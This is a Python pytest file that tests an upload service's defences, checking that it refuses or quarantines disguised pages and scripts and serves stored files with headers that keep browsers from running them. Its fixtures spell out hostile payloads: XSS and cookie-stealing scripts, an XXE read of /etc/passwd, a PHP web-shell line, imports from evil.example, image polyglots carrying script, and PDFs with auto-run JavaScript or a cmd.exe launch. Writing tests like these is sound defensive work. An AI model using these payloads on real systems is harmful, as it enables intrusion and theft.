"""X03 (and the intake side of X05, X07): pages, drawings and scripts dressed up as evidence.

Nothing that a browser could run is taken in; what is taken in is handed out as an attachment without any right to run.
"""

import pytest

from tests.factories import foundation as make
from walletdesk.foundation.files.public import (
    FileIsActive,
    FileQuarantined,
    FileTypeRefused,
    open_file,
    take_in,
)

OWNER = "customer:018f"
SCRIPT = b"alert(document.cookie)"
GIF_HEAD, GIF_TAIL = b"GIF89a", make.a_gif()[6:]

PAGES = {
    "page.png": b"<html><script>alert(1)</script></html>",
    "page.txt": b"<!DOCTYPE html><title>x</title>",
    "drawing.png": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "drawing.txt": b'<?xml version="1.0"?><svg><script>1</script></svg>',
    "feed.txt": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
    "spaced.txt": b"\xef\xbb\xbf \n\t <img src=x onerror=alert(1)>",
    "middle.txt": b"hello\n" * 500 + b"<ScRiPt src=//evil.example></sCrIpT>",
    "wide.txt": "<script>alert(1)</script>".encode("utf-16"),
    "chinese.txt": "你好 <iframe src=x>".encode("gb18030"),
    "php.txt": b"<?php system($_GET['x']); ?>",
    "link.txt": b"see javascript:alert(1)",
    "code.txt": SCRIPT,
    "code2.txt": b"const steal = () => { fetch('/wallet/') }",
    "code3.txt": b"function f(a) { return a }",
    "module.txt": b"import x from 'https://evil.example/x.js';",
    "by_name.js": b"1+1",
    "by_name.HTML": b"hello",
    "by_name.svg ": b"hello",
}

POLYGLOTS = {
    "gif_comment.gif": GIF_HEAD + b"/*" + GIF_TAIL + b"*/=1;" + SCRIPT + b";",
    "gif_assignment.gif": GIF_HEAD + b"='" + GIF_TAIL + b"';" + SCRIPT + b";",
    "gif_template.gif": GIF_HEAD + b"=\n`\x00" + GIF_TAIL[4:] + b"`;" + SCRIPT + b";",
    "gif_named.gif": GIF_HEAD + b'x="' + GIF_TAIL[3:] + b'";' + SCRIPT + b"//;",
    "gif_tail.gif": make.a_gif() + SCRIPT,
    "jpeg_comment.jpg": b"\xff\xd8\xff\xe0/*\x4a\x46\x49\x46" + b"\0" * 60 + b"*/=" + SCRIPT + b"/*\xff\xd9",
    "jpeg_page.jpg": make.a_jpeg() + b"<script>alert(1)</script>",
    "jpeg_exif.jpg": make.a_jpeg()[:20] + b"<svg onload=alert(1)>" + make.a_jpeg()[20:],
    "webp_comment.webp": b"RIFF/*\x00\x00WEBPVP8L" + b"\0" * 30 + b"*/=1;" + SCRIPT,
    "webp_tail.webp": make.a_webp() + b"\0\0" + SCRIPT,
    "png_text.png": make.a_png()[:33] + b"\0\0\0\x20tEXtComment\0<script>alert(1)</script>" + make.a_png()[33:],
    "png_tail.png": make.a_png() + b"PK\x03\x04 and an archive",
    "pdf_page.pdf": b"%PDF-1.4\n<script>alert(1)</script>\n%%EOF",
    "mp4_page.mp4": make.an_mp4() + b"<!DOCTYPE html><body onload=alert(1)>",
}


@pytest.mark.parametrize(("name", "content"), PAGES.items(), ids=PAGES)
def test_x03_a_page_a_drawing_or_a_script_is_refused_whatever_it_is_called(db, name, content):
    with pytest.raises((FileIsActive, FileTypeRefused)) as refused:
        take_in(content, name, OWNER)
    assert refused.value.status == 415


@pytest.mark.parametrize(("name", "content"), POLYGLOTS.items(), ids=POLYGLOTS)
def test_x03_a_picture_that_is_a_script_as_well_is_refused(db, name, content):
    with pytest.raises(FileIsActive):
        take_in(content, name, OWNER)


@pytest.mark.parametrize(
    "content",
    [
        make.a_pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        make.a_pdf(b"/OpenAction << /S /J#61vaScript /JS (app.alert(1)) >>"),
        make.a_pdf(b"/AA << /S /Launch /F (cmd.exe) >>"),
    ],
)
def test_x03_a_pdf_with_a_program_is_kept_apart(db, content):
    assert take_in(content, "evidence.pdf", OWNER).quarantined


def test_x05_a_script_never_comes_out_as_a_script(db):
    """What looks like prose is kept as text, and the browser is told to keep it, not to run it."""
    stored = take_in(b"a = 1; b = 2;", "notes.txt", OWNER)
    headers = open_file(stored.id).headers
    assert headers["Content-Type"].startswith("text/plain")
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Content-Disposition"].startswith("attachment")
    assert "sandbox" in headers["Content-Security-Policy"]


@pytest.mark.parametrize(
    "content", [make.eicar(), b"see this:\n" + make.eicar(), make.a_png()[:-12] + make.eicar() + make.a_png()[-12:]]
)
def test_x07_the_virus_test_file_is_quarantined_shown_as_such_and_never_handed_out(db, content):
    stored = take_in(content, "收据.txt", OWNER)
    assert stored.state == "quarantined"
    with pytest.raises(FileQuarantined):
        open_file(stored.id)
